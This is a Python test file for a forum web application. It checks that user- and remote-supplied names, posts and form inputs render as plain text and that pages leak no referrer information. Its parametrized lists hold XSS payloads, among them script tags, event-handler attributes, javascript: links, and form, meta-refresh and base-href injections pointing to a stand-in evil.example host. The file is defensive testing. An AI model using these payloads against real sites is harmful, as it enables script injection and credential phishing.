"""XSS-02 and XSS-10: whatever somebody is called or writes, a page shows it as words."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from activitypub.content import clean_html
from storage.unit_of_work import UnitOfWork
from tests.node.web.elsewhere import remote_group, remote_person
from tests.node.web.house import WebHouse
from tests.storage.rows import a_thread, an_actor

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "{{7*7}}{% raw %}",
    "javascript:alert(1)",
    "<!--",
    "&lt;b&gt;",
)
ALLOWED = frozenset(
    {"a", "article", "aside", "blockquote", "body", "br", "button", "code", "details", "div", "em"}
    | {"fieldset", "footer", "form", "h1", "h2", "h3", "head", "header", "html", "img", "input"}
    | {"label", "legend", "li", "link", "main", "meta", "nav", "ol", "option", "p", "pre", "q"}
    | {"section", "select", "span", "strong", "summary", "textarea", "time", "title", "ul"}
)


class Checker(HTMLParser):
    """Collects every element and attribute that our templates do not write themselves."""

    def __init__(self) -> None:
        super().__init__()
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.odd.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "autofocus", "srcdoc", "formaction"):
                self.odd.append(name)
            if name in ("href", "src", "action") and (value or "").startswith("javascript"):
                self.odd.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"<!--{data}")


def odd_parts(text: str) -> list[str]:
    checker = Checker()
    checker.feed(text)
    return checker.odd


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_xss_02_names_titles_and_reasons_are_words(house: WebHouse, payload: str) -> None:
    mara = await house.member("mara", "administrator")
    await mara.submit("/settings/persona", at="/settings", display_name=payload)
    fields = {"handle": "sleep", "visibility": "public", "summary": payload, "guidelines": payload}
    await mara.submit("/groups/new", at="/groups/new", name=payload, **fields)
    new = "/groups/sleep/new"
    page = await mara.submit(new, at=new, title=payload, text=payload, content_warning=payload)
    thread = page.path.split("?")[0]
    number = thread.rpartition("/")[2]
    await mara.submit(f"/posts/{number}/reply", at=thread, text=payload)
    at = f"/posts/{number}/moderate"
    for path in ("/", "/groups", "/groups/sleep", thread, "/personas/mara", "/settings", at, new):
        for reader in (mara, house.visitor()):
            page = await reader.get(path)
            assert page.status == 200
            assert odd_parts(page.text) == [], (path, payload)
    await mara.submit(at, at=at, act="remove", reason=payload)
    assert odd_parts((await mara.get(thread)).text) == []
    assert "49" not in (await mara.get("/personas/mara")).text.split("<h1>")[1].split("</h1>")[0]


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_xss_02_people_and_groups_of_other_nodes_are_words(
    house: WebHouse, payload: str
) -> None:
    tom = await house.member("tom")
    await remote_person(house, "anna", payload)
    await remote_group(house, "night", payload)
    for path in ("/personas/anna@other.example", "/groups/night@other.example", "/groups"):
        page = await tom.get(path)
        assert page.status == 200
        assert odd_parts(page.text) == []


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_xss_02_what_a_form_sends_back_is_words(house: WebHouse, payload: str) -> None:
    visitor = house.visitor()
    page = await visitor.sign_in(payload, "x")
    assert odd_parts(page.text) == []
    page = await visitor.submit("/sign-up", at="/sign-up", name=payload, handle=payload)
    assert page.form("/sign-up").fields["handle"] == payload
    assert odd_parts(page.text) == []
    page = await visitor.post("/groups/x/new", {"csrf": await visitor.token(), "text": payload})
    assert odd_parts(page.text) == []


@pytest.mark.parametrize(
    "payload",
    [
        '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
        "<style>body { display: none }</style>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<button formaction="https://evil.example">Go</button>',
        '<base href="https://evil.example">',
        "[x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        '<iframe src="https://evil.example"></iframe>',
        "<svg onload=alert(1)>",
        '<a href="https://ok.example" style="position:fixed" onclick="x()">x</a>',
    ],
)
async def test_xss_10_a_post_holds_no_form_style_or_frame(house: WebHouse, payload: str) -> None:
    mara = await house.member("mara")
    await house.group("sleep", mara)
    new = "/groups/sleep/new"
    page = await mara.submit(new, at=new, title="T", text=f"before\n\n{payload}\n\nafter")
    prose = page.text.split('<div class="prose"')[1].split("</div>")[0]
    assert "before" in prose
    assert "after" in prose
    assert odd_parts(page.text) == []
    for tag in (
        "<form",
        "<input",
        "<button",
        "<style",
        "<meta",
        "<base",
        "<iframe",
        "<svg",
        "<img",
    ):
        assert tag not in prose
    assert page.text.count("<form") == page.text.count("</form>")


async def test_prv_20_no_page_tells_other_hosts_who_reads(house: WebHouse) -> None:
    """Faces and pictures of other nodes are not asked for, and a link does not say whence."""
    reader = await house.member("reader")
    group = await house.group("grief", reader)
    face = "https://elsewhere.example/face.png"
    far = replace(an_actor(77, host="elsewhere.example"), icon_url=face)
    text = clean_html(f'<p><img src="{face}"> <a href="https://elsewhere.example/x">x</a></p>')

    def write(uow: UnitOfWork) -> None:
        uow.actors.add(far)
        uow.posts.add(a_thread(770, group.actor.id, far.id, content=text, title="Far"))

    await house.db.write(write)
    for path in ("/groups/grief", "/threads/770", "/personas/Actor77@elsewhere.example", "/"):
        page = await reader.get(path)
        assert (page.status, face in page.text) == (200, False), path
        assert page.headers["Referrer-Policy"] == "same-origin"
    assert 'rel="nofollow noopener noreferrer"' in (await reader.get("/threads/770")).text


def test_what_is_odd_is_found() -> None:
    assert odd_parts("<p onclick=x><script></script><a href='javascript:x'>") == [
        "onclick",
        "script",
        "href=javascript:x",
    ]
